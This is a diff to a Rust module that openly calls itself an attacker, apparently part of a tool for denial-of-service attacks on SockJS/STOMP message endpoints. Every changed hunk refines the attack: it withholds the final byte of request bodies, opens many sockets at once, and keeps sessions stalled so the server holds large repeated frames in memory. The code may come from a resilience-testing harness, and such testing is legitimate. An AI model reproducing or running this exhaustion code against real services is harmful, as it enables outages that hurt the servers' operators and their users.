@@ -2,18 +2,21 @@
 
 use serde_json::json;
 use tokio::io::AsyncWriteExt as _;
-use tokio::net::TcpStream;
 use tokio::task::JoinSet;
-use tokio::time::sleep;
+use tokio::time::{Duration, sleep, timeout};
 
-use super::{Attacker, Outcome, PAUSE, drain, send};
+use super::{Attacker, Outcome, PAUSE, Socket, drain, send};
 
-/// How many requests each SockJS session has.
+/// How long a body is not answered when its session waits.
+const STALL: Duration = Duration::from_millis(500);
+/// How many requests a SockJS session has, at most.
 const REQUESTS: usize = 90;
+/// How many stalled sessions have as many; the others have two, one of which a session keeps waiting.
+const CROWDED_SESSIONS: usize = 11;
 
 /// A SockJS session of which nothing is received.
 struct SockJs {
-    stream: TcpStream,
+    stream: Socket,
     path: String,
 }
 
@@ -26,8 +29,9 @@ impl SockJs {
         Ok(Self { stream, path })
     }
 
-    async fn send(&mut self, attacker: &Attacker, frame: &[u8]) -> Outcome<()> {
-        let body = json!([String::from_utf8_lossy(frame)]).to_string();
+    /// Sends as many of the same frame in one body.
+    async fn send(&mut self, attacker: &Attacker, frame: &[u8], times: usize) -> Outcome<()> {
+        let body = json!(vec![String::from_utf8_lossy(frame); times]).to_string();
         let line = format!("POST {}/xhr_send", self.path);
         attacker
             .exchange(&mut self.stream, &line, body.as_bytes())
@@ -39,7 +43,8 @@ impl SockJs {
 /// Bodies for one session, all but the last byte of each.
 pub(super) async fn withheld_sockjs(attacker: &mut Attacker) -> Outcome<()> {
     let session = SockJs::open(attacker).await?;
-    bodies(attacker, &session.path, attacker.request_bytes - 1).await
+    let bytes = attacker.request_bytes - 1;
+    bodies(attacker, &session.path, bytes, REQUESTS).await
 }
 
 /// Whole bodies for a session that waits until its client receives, which they never do.
@@ -47,18 +52,25 @@ pub(super) async fn stalled_sockjs(attacker: &mut Attacker) -> Outcome<()> {
     let mut session = SockJs::open(attacker).await?;
     let topic = format!("/topic{}", session.path);
     let connect = b"CONNECT\naccept-version:1.2\nhost:x\nvisitor-token:new\n\n\0";
-    session.send(attacker, connect).await?;
+    session.send(attacker, connect, 1).await?;
     let subscribe = format!("SUBSCRIBE\nid:1\ndestination:{topic}\n\n\0");
-    session.send(attacker, subscribe.as_bytes()).await?;
+    session.send(attacker, subscribe.as_bytes(), 1).await?;
     let large = send(&topic, &"x".repeat(30 << 10));
-    for _ in 0..6 {
-        session.send(attacker, &large).await?;
+    for _ in 0..2 {
+        // The one that waits for the client is not answered, and keeps its body in memory.
+        if let Ok(answered) = timeout(STALL, session.send(attacker, &large, 11)).await {
+            answered?;
+        }
     }
-    bodies(attacker, &session.path, attacker.request_bytes).await
+    let count = match attacker.place.number < CROWDED_SESSIONS {
+        true => REQUESTS,
+        false => 2,
+    };
+    bodies(attacker, &session.path, attacker.request_bytes, count).await
 }
 
 /// Sends the first bytes of the longest body for a session on many sockets at once, until all are closed.
-async fn bodies(attacker: &Attacker, path: &str, bytes: usize) -> Outcome<()> {
+async fn bodies(attacker: &Attacker, path: &str, bytes: usize, count: usize) -> Outcome<()> {
     let mut body = b"[\"".to_vec();
     body.resize(attacker.request_bytes - 2, b'x');
     body.extend_from_slice(b"\"]");
@@ -66,7 +78,7 @@ async fn bodies(attacker: &Attacker, path: &str, bytes: usize) -> Outcome<()> {
     let body: std::rc::Rc<[u8]> = body.into();
     let head = attacker.request(&format!("POST {path}/xhr_send"), attacker.request_bytes);
     let mut requests = JoinSet::new();
-    for _ in 0..REQUESTS {
+    for _ in 0..count {
         let (place, head, body) = (attacker.place, head.clone(), body.clone());
         requests.spawn_local(async move {
             let mut stream = place.open().await?;
